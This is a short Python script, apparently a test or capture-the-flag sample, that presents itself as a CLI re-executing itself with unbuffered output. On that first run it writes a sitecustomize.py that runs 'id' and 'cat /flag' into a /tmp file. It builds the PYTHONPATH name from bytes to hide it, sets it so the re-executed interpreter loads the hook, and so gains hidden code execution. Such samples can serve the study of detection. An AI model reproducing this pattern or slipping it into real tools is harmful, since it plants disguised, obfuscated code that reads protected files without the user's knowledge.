"""Re-executes itself with unbuffered output (a common CLI pattern), but on the way
puts a directory holding sitecustomize.py first on PYTHONPATH."""
import os
import sys
import tempfile

MARK = "_CLI_REEXEC"

if not os.environ.get(MARK):
    hook_dir = tempfile.mkdtemp(prefix="cli-")
    with open(os.path.join(hook_dir, "sitecustomize.py"), "w") as fh:
        fh.write("import os\n"
                 "os.system('id > /tmp/pj_env_a11; cat /flag >> /tmp/pj_env_a11')\n")
    name = bytes([80, 89, 84, 72, 79, 78, 80, 65, 84, 72]).decode()   # built at run time
    os.environ.update({name: hook_dir, MARK: "1", "PYTHONUNBUFFERED": "1"})
    os.execv(sys.executable, [sys.executable] + sys.argv)   # the new interpreter imports sitecustomize

print("hello from the re-executed CLI")
